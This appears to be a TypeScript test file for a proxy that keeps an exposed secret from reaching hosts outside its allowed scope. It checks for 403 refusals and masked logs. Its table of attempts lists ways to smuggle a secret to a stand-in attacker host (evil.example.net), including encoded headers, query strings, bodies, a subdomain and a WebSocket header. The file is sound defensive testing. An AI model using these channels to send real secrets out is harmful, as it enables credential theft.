// Published attack 12 and 10: a real value that the child has after all (an exposed secret, one that it found in a file) must not leave for a host
// outside the secret's scope, and blocking is explained without repeating it (OpenShell #2161).
import type http from 'node:http';
import { afterEach, describe, expect, it } from 'vitest';
import { eventLine } from '../../src/audit/event.ts';
import { Secret } from '../../src/core/secret.ts';
import { Guard } from '../../src/mask/guard.ts';
import { scopeOf } from '../../src/mask/scope.ts';
import { Lab, type Ask, type Reply } from '../proxy/lab.ts';

let lab: Lab | undefined;

afterEach(async () => {
  await lab?.close();
  lab = undefined;
});

const VALUE = 'CANARY-7d3f/9c+1b=52 e8';
const EVIL = 'https://evil.example.net/';
const base64 = (text: string) => Buffer.from(text).toString('base64');

async function start(): Promise<Lab> {
  lab = await Lab.start({ secrets: [{ name: 'TOKEN', value: VALUE, hosts: ['api.example.com'], expose: true }] });
  return lab;
}

/** The log is written through `eventLine`, which is looked at here in place of the bare events. */
function examineLog(lab: Lab): void {
  const guard = new Guard([{ name: 'TOKEN', secret: new Secret(VALUE), scope: scopeOf({ hosts: ['api.example.com'], ruleHosts: [] }) }]);
  const lines = lab.events.map((event) => eventLine(event, (text) => guard.masked(text)));
  lab.examine(lines.join(''), 'the log');
  lab.events.length = 0;
}

const json = (body: unknown): Ask => {
  const text = JSON.stringify(body);
  return { method: 'POST', headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(text) }, body: text };
};

const text = (body: string): Ask => ({
  method: 'POST',
  headers: { 'content-type': 'text/plain', 'content-length': Buffer.byteLength(body) },
  body,
});

const header = (headers: http.OutgoingHttpHeaders): Ask => ({ headers });

const ATTEMPTS: readonly (readonly [string, string, Ask])[] = [
  ['a credential header', '', header({ authorization: `Bearer ${VALUE}` })],
  ['a header that is no slot', '', header({ 'user-agent': VALUE })],
  ['Basic', '', header({ authorization: `Basic ${base64(`user:${VALUE}`)}` })],
  ['base64 in a header', '', header({ 'x-data': base64(`xx${VALUE}`) })],
  ['hexadecimal in a header', '', header({ 'x-data': Buffer.from(VALUE).toString('hex') })],
  ['the query', `?q=${encodeURIComponent(VALUE)}`, {}],
  ['the query, as a form writes it', `?${new URLSearchParams({ q: VALUE }).toString()}`, {}],
  ['the path', encodeURIComponent(VALUE), {}],
  ['a JSON body', '', json({ text: VALUE })],
  ['a JSON body in base64url', '', json({ text: Buffer.from(`x${VALUE}`).toString('base64url') })],
  ['a text body', '', text(`start ${VALUE} end`)],
  ['a form', '', text(new URLSearchParams({ q: VALUE }).toString())],
];

describe('a real value to a host outside its scope', () => {
  it.each(ATTEMPTS)('real value out of scope: in %s it is a 403 that does not repeat it', async (_what, path, ask) => {
    const lab = await start();
    const reply = await lab.ask(EVIL + path, ask);
    expect(reply.status).toBe(403);
    expect(reply.headers['x-kz-error']).toBe('secret-out-of-scope');
    lab.examine(reply.body, 'the refusal');
    expect(lab.received).toEqual([]);
    examineLog(lab);
  });

  it.each(ATTEMPTS)('real value in scope: in %s it passes', async (_what, path, ask) => {
    const lab = await start();
    expect((await lab.ask(`https://api.example.com/${path}`, ask)).status).toBe(200);
    expect(lab.received).toHaveLength(1);
    examineLog(lab);
  });

  it('real value out of scope: in the name of a host', async () => {
    lab = await Lab.start({ secrets: [{ name: 'TOKEN', value: 'canary-0123456789abcdef', hosts: ['api.example.com'], expose: true }] });
    const reply: Reply = await lab.ask('https://canary-0123456789abcdef.evil.example.net/');
    expect(reply.status).toBe(403);
    expect(lab.received).toEqual([]);
    lab.events.length = 0;
  });

  it('real value out of scope: in the handshake of a WebSocket', async () => {
    const lab = await start();
    const headers = { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-protocol': Buffer.from(VALUE).toString('hex') };
    expect((await lab.ask(EVIL, { headers })).status).toBe(403);
    expect(lab.received).toEqual([]);
    examineLog(lab);
  });
});
